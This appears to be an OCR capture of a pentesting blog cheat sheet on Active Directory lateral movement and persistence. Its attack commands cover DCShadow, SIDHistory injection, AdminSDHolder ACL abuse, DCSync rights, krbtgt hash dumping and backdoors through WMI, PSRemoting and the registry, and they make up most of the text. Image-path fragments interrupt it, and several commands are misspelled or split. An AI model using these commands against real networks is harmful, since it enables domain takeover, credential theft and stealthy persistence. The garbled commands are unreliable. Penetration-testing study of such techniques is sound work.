ls \steinsDC.steins.local\c$DCShadow Attack

- DCShadow temporarily registers a new domain controller in the target domain and uses it to "push" attributes like SIDHistory,SPNs etc on specified objects without leaving the change logs for modified object.
- The new domain controlle is registered by modifying the configuration container, SPNs of an existing computer object and couple of RPC services.
- Because of attributes are changed from a "domain controller", there are no directory change logs on the actual DC for the target object.
- By default, DA privileges are required to use DCShadow.
- Attacker machine must be part of the root domain
- There are no events created for this attack

#Run cmd as system
psexec.exe -s -i cmd.exe
#run mimikatz on 2 terminals. server starts and waits for a push.. we nee to push it from another mimikatz terminal
lsadump::dcshadow /object:Domain_admin /attribute:Description /Value="DCShadow Attack testing"

#on 2nd shell of mimikatz (required DA privs) push the values

#escalate privs as DA - impersonate as administrator, if you are already not running the shell as domain admin.
sekurlsa::pth /user:Administrator /domain:Steins.local /ntlm: NTLM_HASH /impersonate#View the privileges

#push the settings..
lsadump::dcshadow /push


Abusing SID using DCShadow attack

add SIDHistory to a user account to give permissions of the group, ex: Enterprise Admins - through which we can run DCSync Attack#Copy the SID of the group; Enterprise Admins SID ends with 519 always
Get-ADGroup -SamAccountName "Enterprise Admins"

#run mimikatz as system., adding a user to Enterprise Admins Group
lsadump::dcshadow /object:Username /attribute:SIDHistory /value:S-1-5-21-1070240333-336889418-1185445934-519

#Open MImikatz on new terminal with Domain Admin Privileges..

lsadump::dcshadow /push

---Changing the hash of an Account using DCShadow

#run mimikatz as system.
lsadump::dcshadow/object:UserName /attribute:unicodePwd /value:00000000000000000000000000000000

#Open MImikatz on new terminal with Domain Admin Privileges..
lsadump::dcshadow /push
DCShadow Attack - without running mimikatz as DA

Modifying premissions for DCShadow with Nishang this way we need not run mimikatz as domain admin

#Run Set-DCShadowPermissions from nishang for setting the permissions as Admin
Set-DCShadowPermissions -FakeDC newDC -SAMAccoountName rootuser -Username newdc_shadow -Verbose

#push the settings..
lsadump::dcshadow /push

#Modify SID history and provide Domain Admin privs
lsadump::dcshadow /object:USERNAME /attribute:SIDHistory /Value:SID_ID

#to run above command with domain admin privs
Set-DCShadowPermissions -FakeDC newDC -SAMAccoountName rootuser -Username USERNAME -Verbose

#Set PrimaryGroupID of a user account to Enterprise Admins or Domain Admins group
lsadump::dcshadow /object:student1 /attribute:primaryGroupID /value:519

#Modify ntSecurityDescriptor for AdminSDHolder to add Full Control for a user
#Get the ACL Of a user
(New-Object System.DirectoryServices.DirectoryEntry("LDAP://CN=AdminSDHolder,CN=system,DC=steins,DC=local")).psbase.ObjectSecurity.sddl

#Modify the ACL
lsadump::dcshadow /object:CN=AdminSDHolder,CN=system,DC=steins,DC=local/attribute:ntSecurityDescriptor /Value:MODIFIED_ACL(full_priv ACL;;;SID)
lsadump::dcshadow /push

Abusing AdminSDHolder - Maintaining Persistance

AdminSDHolder overwrites some important groups (Domain admins, backup groups etc..) with the permissions/ACL's of the AdminSDholder group. if we abuse AdminSDHolder itself, we can maintain persistance.

Need to run as Domain Admin add full control permissions for a user to the AdminSDHolder. Go to Active directory users and computers --> system --> AdminSDHolder group --> security --> add --> any user --> select all; full control --. okay. the user gets permission toaccess everything that domain admins can access without being in domains admins group.

#PowerView - Adding ACL for a user into AdminSDHolder
Add-DomainObjectAcl -TargetADSprefix 'CN=AdminSDHolder, CN=System' -PrincipalSamAccountName USER_NAME -Rights All -Verbose

#AD Module - Adding ACL for a user into AdminSDHolder
Set-ADACL -DistinguishedName 'CN=AdminSDHolder,CN=System,DC=steins.local,DC=Steinsl.local,DC=local' -Principal Machine_NAME -Verbose

#AdminSDHolder Changes takes place every 60 mins or so, we can force it using


#Run Invoke-SDPropagator to apply settings to all the groups in it.
Invoke-SDPropagator -showProgress -timeoutMinutes 1

#Read the ACL's in Domain Admins group
Get-ObjectAcl -SamAccountName "Domain Admins" -ResolveGUIDs | ?{$_.IdentityReference -match 'USER_NAME'}

AbusingPermissions

#now we have control over domain admins group; lets add a new member
Add-ADGroupMember -Identity 'Domain Admins' -Members testaccount
#Powerview - add a user to domain admins
Add-DomainGroupMember -Identity 'Domain Admins' -Members testaccount -Verbose

#Abusing ResetPassword using AD Module:
Set-ADAccountPassword -Identity testaccount -NewPassword (ConvertToSecureString "Password@123" -AsPlainText -Force) -Verbose

#Abusing ResetPassword using Powerview:
et-DomainUserPassword -Identity testaccount -AccountPassword (ConvertTo-SecureString "Password@123" -AsPlainText -Force) -Verbose

#Downloading DC Hashes without logging as Domain Admin: this command should be run as admin, modifying acl
Set-ADACL -DistinguishedName 'DC=steins,DC=steins,DC=local' -Principal USERNAME -GUIDRight DCSync -Verbose

# Running as a low priv user
Invoke-Mimikatz -Command '"lsadump::dcsync /user:steins\krbtgt"'Abusing ACLs - Security Descriptors - Maintaning PersistnaceExecute commands as DC by running the script. it is possible to modify security descriptors - security info like owner, primary group,dacl and sacl of multiple remote access methods to allow access to non-admin users.
- Admin privs are requuired for this

Download the Script --

#Import the module as domain admin and assign permission to the namespace
Set-RemoteWMI -UserName USER_NAME -ComputerName steinsDC.steins.local -namespace 'root\cimv2' -Verbose

Now you can run commands with domain admin privs: even without being a domain admin; you can only run wmi commands, you can not get a shell or execute othe commands

get-wmiobject -class win32_operatingsyste m -ComputerName steinsdc.steins.local

To Remove:
Set-RemoteWMI -UserName studentadmin -ComputerNamesteinsDC.steins.local -namespace 'root\cimv2' -Verbose-Remove

Command Execution privs on DC:

#Run PS-Remoting to get command execution.
Set-RemotePSRemoting -Username studnetadmin -ComputerName steindsdc.steins.local -verbose

now you can run commands as Domain admin: even without domain admin privs - giving yourself permissions

#Test Command Execution
Invoke-Command -ScriptBlock{whoami} -ComputerName steinsdc.steins.local

Abusing ACLs - DACL Exploitation - Maintaning PersistnaceThe Discretionary ACLModification Project: Persistence Through Host-based Security Descriptor Modification.

Download DAMP From

#Using DAMP, with admin privs on remote machine
Add-RemoteRegBackdoor -ComputerName Steinsdc.steins.local -Trustee TEST_USER -Verbose

#as TEST_USER, retrieve machine account hash, this can be used to create a similar ticket to access other service.. Silver ticket
Get-RemoteMachineAccountHash -ComputerName Steinsdc.steins.local -Verbose

#Retreive Local Account Hash of any local account
Get-RemoteLocalAccountHash -ComputerName Steinsdc.steins.local -Verbose

#Retrieve Domain cached Credentials
Get-RemoteCachedCredential -ComputerName Steinsdc.steins.local-Verbose

That’s it for this post Active Directory Penetration Testing – Lateral Movement & Persistence Techniques cheatsheet. Here are few other of myresources that might be helpful for youwhile pentesting active directory.

Basic Active Directory PenTest Commands and Techniques - Active Directory Recon and Initial Access
Privilege escalation cheat sheet -
Windows Privilege Escalation & Linux Privilege Escalation Let me know if I missed any important or commonly used commands. See ya